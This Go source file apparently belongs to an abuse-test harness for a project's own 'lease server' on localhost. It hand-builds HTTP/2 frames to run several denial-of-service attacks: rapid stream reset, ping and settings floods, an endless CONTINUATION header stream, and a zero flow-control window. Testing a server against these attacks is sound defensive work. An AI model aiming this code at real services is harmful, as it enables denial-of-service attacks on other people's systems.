//go:build linux

package abuse

import (
	"encoding/binary"
	"io"
	"net"
	"strings"
)

// Frames of HTTP/2, as far as attacks need them.
const (
	frameHeaders      = 1
	frameReset        = 3
	frameSettings     = 4
	framePing         = 6
	frameContinuation = 9

	flagEndStream  = 1
	flagEndHeaders = 4

	settingInitialWindow = 4
)

// frame is one frame with its payload.
func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	b := binary.BigEndian.AppendUint32(nil, uint32(len(payload))<<8|uint32(kind))
	b = append(b, flags)
	b = binary.BigEndian.AppendUint32(b, stream)
	return append(b, payload...)
}

// literal is a header field that is written out. Its texts have fewer than 127 bytes.
func literal(name, value string) []byte {
	b := append([]byte{0, byte(len(name))}, name...)
	return append(append(b, byte(len(value))), value...)
}

// head is the header block of a GET.
func head(path, token string) []byte {
	b := []byte{0x82, 0x87} // GET, https
	b = append(b, literal(":path", path)...)
	b = append(b, literal(":authority", "localhost")...)
	if token != "" {
		b = append(b, literal("authorization", "Bearer "+token)...)
	}
	return b
}

// http2 begins HTTP/2 with the lease server.
func (a *attacker) http2() (net.Conn, error) {
	conn, err := a.tls("h2")
	if err != nil {
		return nil, err
	}
	if _, err := io.WriteString(conn, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"+string(frame(frameSettings, 0, 0, nil))); err != nil {
		_ = conn.Close()
		return nil, err
	}
	return conn, nil
}

// stream is the ID of a connection's n-th stream.
func stream(n int) uint32 { return uint32(2*n + 1) }

// rapidReset opens streams and cancels them at once.
func (a *attacker) rapidReset(conn net.Conn) {
	block := head("/leases", hostileToken)
	a.pour(func(n int) []byte {
		const cancel = 8
		b := frame(frameHeaders, flagEndStream|flagEndHeaders, stream(n), block)
		return append(b, frame(frameReset, 0, stream(n), []byte{0, 0, 0, cancel})...)
	})(conn)
}

// floodOf sends frames that want answers, and reads none.
func (a *attacker) floodOf(kind byte, size int) func(net.Conn) {
	b := frame(kind, 0, 0, make([]byte, size))
	return func(conn net.Conn) { a.ask(conn, func(int) []byte { return b }) }
}

// endlessHead sends a head that goes on and on.
func (a *attacker) endlessHead(conn net.Conn) {
	more := literal("x-more", strings.Repeat("x", 100))
	a.pour(func(n int) []byte {
		if n == 0 {
			return frame(frameHeaders, flagEndStream, 1, head("/leases", ""))
		}
		return frame(frameContinuation, 0, 1, more)
	})(conn)
}

// noWindow asks for many answers, and lets none of them through.
func (a *attacker) noWindow(conn net.Conn) {
	block := head("/", "")
	none := append([]byte{0, settingInitialWindow}, 0, 0, 0, 0)
	a.pour(func(n int) []byte {
		switch {
		case n == 0:
			return frame(frameSettings, 0, 0, none)
		case n > 1000:
			return nil
		}
		return frame(frameHeaders, flagEndStream|flagEndHeaders, stream(n), block)
	})(conn)
}
